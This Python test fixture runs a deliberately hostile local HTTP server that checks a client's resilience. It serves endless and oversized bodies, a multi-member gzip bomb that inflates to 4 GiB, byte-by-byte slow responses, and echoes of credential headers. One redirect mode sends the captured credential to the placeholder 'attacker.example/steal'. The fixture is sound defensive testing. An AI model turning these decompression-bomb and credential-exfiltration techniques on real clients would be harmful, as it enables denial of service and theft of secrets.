"""A hostile HTTP server on 127.0.0.1 for the reliability suite: it answers every request the way one
:class:`Mode` says (endless or huge bodies, a gzip bomb, a byte every ``interval`` seconds, an echo of
the request's headers, a redirect), and records what it received.

with HostileServer() as server:
    server.mode = Mode.GZIP_BOMB
    ...  # point a connection's host at server.url
"""

from __future__ import annotations

import contextlib
import gzip
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from enum import Enum
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any


class Mode(str, Enum):
    ENDLESS_CHUNKED = "endless_chunked"  # 200, chunked, never ends
    HUGE_BODY = "huge_body"  # 200 announcing 2 GiB, sent until the client goes away
    GZIP_BOMB = "gzip_bomb"  # 200, 4 MiB of gzip that inflates to 4 GiB
    GZIP_BOMB_ERROR = "gzip_bomb_error"  # the same bomb as a 400 error page
    SLOW_BODY = "slow_body"  # 200, one body byte every `interval` seconds
    SLOW_HEADERS = "slow_headers"  # the status line, then one header byte every `interval` seconds
    ECHO = "echo"  # `status` with a JSON body quoting every request header (message and details)
    ECHO_TEXT = "echo_text"  # `status` with a text body, the Authorization value at character ~100
    REDIRECT = "redirect"  # `status` 3xx to another host, with userinfo and a key in the query

    def __str__(self) -> str:
        return self.value


#: One gzip member of 64 MiB of zeros (~64 KiB); the bomb sends it 64 times (a valid multi-member
#: gzip stream of 4 GiB).
@cache
def _bomb_member() -> bytes:
    return gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9, mtime=0)


@dataclass
class Received:
    method: str
    path: str
    headers: dict[str, str]


class _Handler(BaseHTTPRequestHandler):
    server: HostileServer
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _handle(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        headers = {k.lower(): v for k, v in self.headers.items()}
        self.server.received.append(Received(self.command, self.path, headers))
        with contextlib.suppress(OSError):  # the client gave up, as it should
            getattr(self, f"_{self.server.mode.value}")(headers)
        self.close_connection = True

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_CONNECT = _handle

    def _head(self, status: int, headers: dict[str, str]) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()

    def _endless_chunked(self, _: dict[str, str]) -> None:
        self._head(200, {"Content-Type": "application/json", "Transfer-Encoding": "chunked"})
        chunk = b"[" + b"0," * 32768
        while not self.server.stopping.is_set():
            self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))

    def _huge_body(self, _: dict[str, str]) -> None:
        self._head(200, {"Content-Type": "application/json", "Content-Length": str(2 * 1024**3)})
        block = b" " * 65536
        while not self.server.stopping.is_set():
            self.wfile.write(block)

    def _bomb(self, status: int) -> None:
        member = _bomb_member()
        self._head(
            status,
            {
                "Content-Type": "application/json",
                "Content-Encoding": "gzip",
                "Content-Length": str(64 * len(member)),
            },
        )
        for _ in range(64):
            if self.server.stopping.is_set():
                return
            self.wfile.write(member)

    def _gzip_bomb(self, _: dict[str, str]) -> None:
        self._bomb(200)

    def _gzip_bomb_error(self, _: dict[str, str]) -> None:
        self._bomb(400)

    def _trickle(self, data: bytes) -> None:
        for i in range(len(data)):
            if self.server.stopping.wait(self.server.interval):
                return
            self.wfile.write(data[i : i + 1])
            self.wfile.flush()

    def _slow_body(self, _: dict[str, str]) -> None:
        body = json.dumps({"data": [0] * 200}).encode()
        self._head(200, {"Content-Type": "application/json", "Content-Length": str(len(body))})
        self.wfile.flush()
        self._trickle(body)

    def _slow_headers(self, _: dict[str, str]) -> None:
        self.wfile.write(b"HTTP/1.1 200 OK\r\n")
        self.wfile.flush()
        self._trickle(b"X-Slow: " + b"a" * 1000 + b"\r\n\r\n")

    def _echo(self, headers: dict[str, str]) -> None:
        text = "; ".join(f"{k}: {v}" for k, v in headers.items())
        body = json.dumps(
            {
                "code": "ECHO",
                "errorCode": "ECHO",
                "message": f"request rejected: {text}",
                "title": f"request rejected: {text}",
                "detail": {"headers": headers, "raw": text},
                "errors": [{"received": headers}],
            }
        ).encode()
        self._send(self.server.status, "application/json", body)

    def _echo_text(self, headers: dict[str, str]) -> None:
        credential = headers.get("authorization") or headers.get("x-ins-auth-key") or headers.get("api-key")
        # The credential starts at character 100: a snippet cut at 120 holds only its first part.
        body = ("x" * 100 + f"{credential} " + "; ".join(f"{k}={v}" for k, v in headers.items())).encode()
        self._send(self.server.status, "text/plain", body)

    def _redirect(self, headers: dict[str, str]) -> None:
        credential = headers.get("authorization") or headers.get("x-ins-auth-key") or headers.get("api-key")
        location = f"http://user:{credential}@attacker.example/steal?key={credential}"
        self._head(self.server.status, {"Location": location, "Content-Length": "0"})

    def _send(self, status: int, content_type: str, body: bytes) -> None:
        self._head(status, {"Content-Type": content_type, "Content-Length": str(len(body))})
        self.wfile.write(body)


class HostileServer(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.mode = Mode.ECHO
        self.status = 401
        self.interval = 0.2
        self.received: list[Received] = []
        self.stopping = threading.Event()
        self._thread = threading.Thread(
            target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def use(self, mode: Mode, status: int | None = None) -> None:
        self.mode = mode
        self.status = status or {Mode.REDIRECT: 302, Mode.ECHO: 401, Mode.ECHO_TEXT: 401}.get(mode, 200)
        self.received.clear()

    def credentials_received(self) -> list[str]:
        """Every credential header value received (a JWT is new per request)."""
        names = ("authorization", "x-ins-auth-key", "api-key")
        return [r.headers[n] for r in self.received for n in names if n in r.headers]

    def __enter__(self) -> HostileServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stopping.set()
        self.shutdown()
        self.server_close()
        self._thread.join()


def started() -> Iterator[HostileServer]:
    with HostileServer() as server:
        _bomb_member()  # built once, before any timed request
        yield server
